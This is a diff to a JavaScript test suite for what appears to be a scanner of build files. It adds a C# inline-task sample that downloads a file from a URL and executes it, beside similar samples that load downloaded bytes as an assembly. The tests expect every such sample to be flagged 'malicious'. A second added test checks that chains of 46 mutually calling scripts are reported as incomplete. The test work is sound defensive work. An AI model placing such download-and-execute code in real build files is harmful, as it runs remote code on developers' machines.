@@ -130,6 +130,7 @@ describe('what an inline task runs', () => {
     `var bytes = new System.Net.WebClient().DownloadData("${u}/a");\nSystem.Reflection.Assembly.Load(bytes);`,
     `var p = System.IO.Path.Combine(dir, "a");\nnew System.Net.WebClient().DownloadFile("${u}/a", p);\nvar info = new System.Diagnostics.ProcessStartInfo(p);\nSystem.Diagnostics.Process.Start(info);`,
     `var p = name; new System.Net.WebClient().DownloadFile(url, p);\nvar info = new System.Diagnostics.ProcessStartInfo();\ninfo.FileName = p;\nSystem.Diagnostics.Process.Start(info);`,
+    `new System.Net.WebClient().DownloadFile(url, p);\nSystem.Diagnostics.Process.Start(p);`,
     `System.Reflection.Assembly.Load(new System.Net.WebClient().DownloadData("${u}/a"));`,
   ])('is what it fetched: %#', async (code) => {
     expect(await level(inline(code))).toBe('malicious');
@@ -187,6 +188,19 @@ describe('a program in several scripts', () => {
   it('is not one with a script that nothing starts', async () => {
     const more = { 'tools/other.ps1': fetch };
     expect(await level(init(`Write-Host "see other.ps1"\n${start}`, more))).toBe('-');
+  });
+
+  it('is told to be unread where it never ends', async () => {
+    const count = 46;
+    const calls = Array.from({ length: count }, (_, i) => `call s${i}.cmd`).join('\r\n');
+    const scripts = Array.from({ length: count }, (_, i) => [`build/s${i}.cmd`, calls]);
+    const targets = Array.from({ length: count }, (_, i) => [
+      `build/t${i}.targets`,
+      target(execs('s0.cmd')),
+    ]);
+    const { report } = await inspectedFiles(Object.fromEntries([...scripts, ...targets]));
+    expect(report.assessment.verdict).toBe('incomplete');
+    expect(report.assessment.notEvaluated[0]?.code).toBe('followedFiles');
   });
 
   it('ends where scripts call each other, and tells each act and each call once', async () => {
